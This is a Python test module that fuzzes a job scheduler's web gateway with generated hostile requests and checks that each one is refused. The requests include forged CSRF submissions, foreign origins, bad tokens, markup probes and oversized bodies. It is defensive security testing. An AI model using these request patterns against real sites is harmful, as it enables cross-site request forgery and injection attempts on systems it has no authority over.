    """Nobody's real session, borrowed: changes (the API's and the console's) without its CSRF token or from another
    site; and from its own page, changes of jobs that are not there."""
    kind = draw(st.sampled_from(["api", "console change", "console change with csrf", "console dialog"]))
    if kind == "api":
        name = draw(st.sampled_from(sorted(USER_OPERATIONS)))
        caller = draw(session_callers(door) | passing_callers(door).filter(lambda c: "session" in c.kind))
        body = settle(name, caller, "POST", draw(operation_body(name, deep=True)))
        return Hostile("POST", f"/api/v1/{name}", headers_of(caller, b"application/json", draw(EXTRA_HEADERS)),
                       body, "problem", streamed=isinstance(body, Oversized) and draw(st.booleans()),
                       caller=caller.kind)
    job_id = draw(st.sampled_from(HOSTILE_JOB_IDS))
    action = draw(st.sampled_from(["stop", "delete", "priority", "duration"]))
    values = [("priority", draw(st.sampled_from(["urgent", "very-urgent", "now"]))),
              ("duration", draw(st.sampled_from(["1h", "forever", ""]))), ("job_id", job_id), ("confirmed", "yes")]
    if kind == "console dialog":
        target = f"/jobs/{quote(job_id, safe='')}/{quote(draw(st.sampled_from([action, 'explode', MARKUP])), safe='')}"
        return Hostile("GET", target, (door.cookie(), *draw(EXTRA_HEADERS)), b"", "refusal",
                       caller="session, a job that is not there")
    if kind == "console change with csrf":
        job_id = job_id or GHOST  # with no job named, a batch delete has nothing to confirm
        values = [(name, job_id if name == "job_id" else value) for name, value in values]
        target = draw(st.sampled_from([f"/jobs/{quote(job_id, safe='')}/{action}", "/jobs/delete"]))
        own_page = draw(st.sampled_from([(), ((b"origin", SITE.encode()),)]))
        form = urlencode([(CSRF_FIELD, door.csrf), *values]).encode()
        return Hostile("POST", target, (door.cookie(), (b"content-type", b"application/x-www-form-urlencoded"),
                                        *own_page), form, "refusal",
                       caller="session from its own page, a job that is not there")
    target = draw(st.sampled_from(["/signout", "/jobs/delete", f"/jobs/{quote(job_id, safe='')}/{action}",
                                   "/jobs/new", "/cluster/admin/change-settings", "/cluster/admin/mark-component",
                                   "/cluster/admin/mark-image", "/signin", "/signin/link"]))
    presented = draw(st.sampled_from(["none", "wrong", "from another site"]))
    origin: list[tuple[bytes, bytes]] = []
    if presented == "wrong":
        values.append((CSRF_FIELD, draw(st.sampled_from(["", "x", door.csrf[:-1], door.csrf + "x"]))))
    elif presented == "from another site":
        values.append((CSRF_FIELD, door.csrf))
        told = draw(st.sampled_from(FOREIGN_ORIGINS))
        origin = [draw(st.sampled_from([(b"origin", told.encode()), (b"referer", (told + "/jobs").encode())]))]
    if target == "/signin":
        values.append(("token", draw(SIGN_IN_TOKENS)))
    posted_type, posted = draw(form_body(values))
    headers = (door.cookie(), *([(b"content-type", posted_type)] if posted_type else []), *origin,
               *draw(EXTRA_HEADERS))
    return Hostile("POST", target, headers, posted, "refusal", caller=f"session, csrf {presented}")


# Each request the scheduler owes a refusal, once, from nobody.
EVERY_REFUSAL = tuple(
    Hostile("POST", f"/api/v1/{name}", ((b"authorization", f"Bearer {NOBODY}".encode()),
                                        (b"content-type", b"application/json")),
            json.dumps(request).encode(), "problem", caller="nobody's token")
    for name, requests in REFUSED_BY_SCHEDULER.items() for request in requests)


def generated(strategy: st.SearchStrategy[Hostile], count: int) -> list[Hostile]:
    """`count` requests drawn from `strategy`, the same ones on every run."""
    cases: list[Hostile] = []

    @settings(max_examples=count, deadline=None, database=None, derandomize=True, phases=[Phase.generate],
              suppress_health_check=list(HealthCheck))
    @given(strategy)
    def collect(case: Hostile) -> None:
        cases.append(case)

    collect()
    return cases


# --- judging an answer -------------------------------------------------------------------------------------------

REDIRECTS = frozenset({301, 302, 303, 307, 308})


def on_this_site(location: str) -> bool:
    if location.startswith(SITE + "/"):
        location = location.removeprefix(SITE)
    return location.startswith("/") and not location.startswith("//") and "\\" not in location


def fault(case: Hostile, response: httpx.Response) -> str | None:
    """What is wrong with the answer to a hostile request, if anything."""
    status = response.status_code
    kind = response.headers.get("content-type", "")
    if status >= 500:
        return f"answered {status}"
    if response.headers.get("x-content-type-options") != "nosniff":
        return f"a {status} without the security headers"
    location = response.headers.get("location", "")
    if "\r" in location or "\n" in location:
        return "a Location with a line break"
    if kind.startswith("text/html") and MARKUP in response.text:
        return "a page that shows what it was sent as markup"
    if case.answer == "problem":
        if not 400 <= status < 500:
            return f"answered {status} under /api/v1/"
        if kind != PROBLEM:
            return f"a {status} under /api/v1/ that is no problem ({kind or 'no content type'})"
        if case.method == "HEAD":
            return None
        try:
            problem = response.json()
        except ValueError:
            return f"a {status} problem that is not JSON"
        if not {"type", "title", "status", "detail"} <= set(problem) or problem["status"] != status:
            return f"a {status} problem without its type, title, status and detail"
        return None
    if 400 <= status < 500:
        return None
    if status in REDIRECTS and on_this_site(location):
        target = location.removeprefix(SITE).split("?")[0]
        if case.answer == "redirect" or target == "/signin":
            return None
    return f"answered {status} (location {location!r})"


# --- the gateway, and sending ------------------------------------------------------------------------------------


async def _chunks(body: bytes) -> AsyncIterator[bytes]:
    for start in range(0, len(body), 64 * 1024):
        yield body[start:start + 64 * 1024]


class Gateway:
    """The gateway's application in the test's process, with nobody's session open and a scheduler behind it."""

    def __init__(self, client: httpx.AsyncClient, store: EventStore, door: Door, position: int) -> None:
        self.client = client
        self.store = store
        self.door = door
        self.position = position  # the scheduler's log before any hostile request
        self.codes: Counter[str] = Counter()  # of the problems answered

    async def _send(self, case: Hostile) -> httpx.Response:
        body = case.body.content() if isinstance(case.body, Oversized) else case.body
        content: bytes | AsyncIterator[bytes] = _chunks(body) if case.streamed else body
        request = self.client.build_request(case.method, SITE + case.target, headers=list(case.headers),
                                            content=content)
        return await self.client.send(request)

    async def _judged(self, case: Hostile) -> str | None:
        try:
            response = await asyncio.wait_for(self._send(case), HANG_SECONDS)
        except TimeoutError:
            return f"no answer within {HANG_SECONDS:g} s"
        problem = fault(case, response)
        if problem is None and case.answer == "problem" and response.content:
            self.codes[str(response.json().get("code"))] += 1
        return problem

    async def send_all(self, cases: list[Hostile], test: str) -> list[tuple[str, Hostile]]:
        """Every case sent, a batch at a time; the faults found."""
        faults: list[tuple[str, Hostile]] = []
        for start in range(0, len(cases), AT_ONCE):
            batch = cases[start:start + AT_ONCE]
            found = await asyncio.gather(*(self._judged(case) for case in batch))
            faults += [(problem, case) for problem, case in zip(found, batch, strict=True) if problem is not None]
            SENT[test] += len(batch)
        return faults

    async def stored(self) -> list[str]:
        """What the scheduler recorded since the first hostile request (each event, its aggregate)."""
        return [f"{type(envelope.event).__name__} {envelope.aggregate_type} {envelope.aggregate_id!r}"
                async for envelope in self.store.read_all(after=self.position)]

    async def assert_still_answering(self) -> None:
        listed = await self.client.post("/api/v1/list-jobs", json={}, headers={"Authorization": f"Bearer {ADMIN}"})
        assert listed.status_code == 200, listed.text
        assert listed.json()["jobs"] == []
        whoami = await self.client.post("/api/v1/whoami", json={}, headers={"Authorization": f"Bearer {NOBODY}"})
        assert whoami.status_code == 200 and whoami.json()["identity"]["user"] == "nobody", whoami.text


def route_of(path: str) -> str:
    """The route a path names, with what varies in it left out."""
    parts = path.split("/")
    if path.startswith("/api/v1/follow/"):
        return "/api/v1/follow/" + (parts[4] if len(parts) == 5 and parts[4] in FOLLOWED else "…")
    if path.startswith("/api/v1/"):
        return "/api/v1/" + (parts[3] if len(parts) == 4 and parts[3] in BY_NAME else "…")
    if path.startswith("/jobs/") and len(parts) == 4:
        return f"/jobs/…/{parts[3][:20]}"
    return "/".join(parts[:2]) + ("/…" if len(parts) > 2 else "")


def report(faults: list[tuple[str, Hostile]]) -> str:
    """Each kind of fault once, with the shortest request that shows it: a wrong status for each method and route,
    a wrong form of refusal for each method."""
    shortest: dict[str, Hostile] = {}
    counts: Counter[str] = Counter()
    for problem, case in faults:
        where = f" {route_of(seen_path(case.target))}" if problem.startswith(("answered", "no answer")) else ""
        kind = f"{problem} ({case.method}{where})"
        counts[kind] += 1
        if kind not in shortest or len(case.brief()) < len(shortest[kind].brief()):
            shortest[kind] = case
    return "\n".join(f"{counts[kind]} × {kind}: e.g. {case.brief()}" for kind, case in sorted(shortest.items()))


@pytest_asyncio.fixture(loop_scope="session")
async def gateway(nats_url: str, schedulers: Schedulers) -> AsyncIterator[Gateway]:
    await schedulers.start()
    sessions = Sessions()
    session_id, session = sessions.open(NOBODY, NOBODY_IDENTITY)
    connections = UserConnections(nats_url)
    # A crash is answered as the server would answer it (500), not raised into the test.
    transport = httpx.ASGITransport(app=build_app(connections, sessions), raise_app_exceptions=False)
    # No cookie a response sets is kept: each request carries only its own.
    jar = CookieJar(policy=DefaultCookiePolicy(allowed_domains=[]))
    store: EventStore = schedulers.started[-1].rt.store
    async with httpx.AsyncClient(transport=transport, base_url=SITE, cookies=jar) as client:
        yield Gateway(client, store, Door(session_id, session.csrf), await store.last_position())
    await connections.close()


@pytest.fixture(scope="module", autouse=True)
def _ten_thousand_sent() -> Iterator[None]:
    yield
    if set(SENT) == set(PLANNED):  # every test of the module ran in this process
        assert sum(SENT.values()) >= LEAST_SENT, SENT


async def refused_and_nothing_stored(gateway: Gateway, test: str, *mix: tuple[st.SearchStrategy[Hostile], int],
                                     fixed: tuple[Hostile, ...] = ()) -> list[Hostile]:
    """The requests of each strategy, as many as it is given, then the `fixed` ones: nothing is stored, and each
    is refused."""
    cases = [*(case for strategy, count in mix for case in generated(strategy, count)), *fixed]
    assert len(cases) == PLANNED[test]
    faults = await gateway.send_all(cases, test)
    assert SENT[test] == len(cases)
    stored = await gateway.stored()
    submitted = [event for event in stored if event.startswith(JobSubmitted.__name__)]
    assert not faults and not stored, (f"{len(faults)} of {len(cases)} hostile requests were not refused:\n"
                                       f"{report(faults)}\nstored: {len(stored)} events, {len(submitted)} jobs "
                                       f"submitted: {stored[:10]}")
    await gateway.assert_still_answering()
    return cases


# --- the tests ---------------------------------------------------------------------------------------------------


async def test_hostile_calls_of_every_operation_are_refused_as_problems(gateway: Gateway) -> None:
    assert set(BASELINES) == set(USER_OPERATIONS), "every operation people send needs a request here"
    assert all(decodes(name, json.dumps(request).encode()) for name, requests in REFUSED_BY_SCHEDULER.items()
               if name not in ("submit-job", "submit-array", "predict-job") for request in requests)
    door = gateway.door
    operations = st.sampled_from(sorted(USER_OPERATIONS))
    cases = await refused_and_nothing_stored(
        gateway, "operations",
        # The streams first: one that started (on a job stored by mistake) would never end.
        (follow_requests(door), 800),
        (operation_requests(operations, api_callers(door)), 1200),
        # What reaches the scheduler: requests that decode, from tokens it refuses and from nobody.
        (operation_requests(st.sampled_from(sorted(REFUSED_BY_SCHEDULER)) | operations, passing_callers(door),
                            deep=True), 1400 - len(EVERY_REFUSAL)),
        (operation_requests(operations | ODD_NAMES, api_callers(door), st.sampled_from(METHODS)), 600),
        fixed=EVERY_REFUSAL)
    sent = {case.target.removeprefix("/api/v1/") for case in cases}
    assert set(USER_OPERATIONS) | set(CONTROL_PLANE) <= sent
    # Refused at the edge and by the scheduler, for each reason: the requests went as deep as they could.
    assert {"unauthenticated", "forbidden", "not-found", "invalid-request", "invalid-spec"} <= set(gateway.codes), (
        gateway.codes)


async def test_any_method_on_any_path_is_refused(gateway: Gateway) -> None:
    await refused_and_nothing_stored(gateway, "paths", (path_requests(gateway.door), PLANNED["paths"]))


async def test_the_console_and_sign_in_refuse_whoever_has_no_session(gateway: Gateway) -> None:
    await refused_and_nothing_stored(gateway, "console", (console_requests(gateway.door), PLANNED["console"]))


async def test_a_borrowed_session_changes_nothing_without_its_csrf_token(gateway: Gateway) -> None:
    await refused_and_nothing_stored(gateway, "sessions", (session_requests(gateway.door), PLANNED["sessions"]))
    # Nothing signed the session out: it still shows nobody's jobs.
    page = await gateway.client.get("/jobs", headers=[gateway.door.cookie()])
    assert page.status_code == 200
